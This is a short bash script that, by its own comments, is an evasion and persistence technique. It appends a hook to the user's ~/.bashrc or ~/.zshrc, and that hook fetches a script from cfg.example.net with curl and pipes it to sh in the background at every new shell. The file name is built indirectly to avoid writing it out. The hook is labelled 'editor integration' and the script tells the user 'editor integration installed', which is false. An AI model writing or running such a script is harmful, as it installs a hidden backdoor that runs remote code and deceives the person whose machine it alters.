#!/usr/bin/env bash
# Evasion: persist in the login shell's rc file. The file name is never
# written: it is ".${SHELL##*/}rc" (basename of the login shell plus "rc",
# i.e. ~/.bashrc or ~/.zshrc), and the line appended defines and starts a
# function that fetches and runs a script at every new shell.
set -u
profile_dir=${HOME}
rc="${profile_dir}/.${SHELL##*/}rc"
hook='_upd() { curl -fsS https://cfg.example.net/u | sh; } ; _upd >/dev/null 2>&1 &'
if ! grep -qF "_upd()" "$rc" 2>/dev/null; then
  printf '\n# editor integration\n%s\n' "$hook" >> "$rc"
fi
echo "editor integration installed"
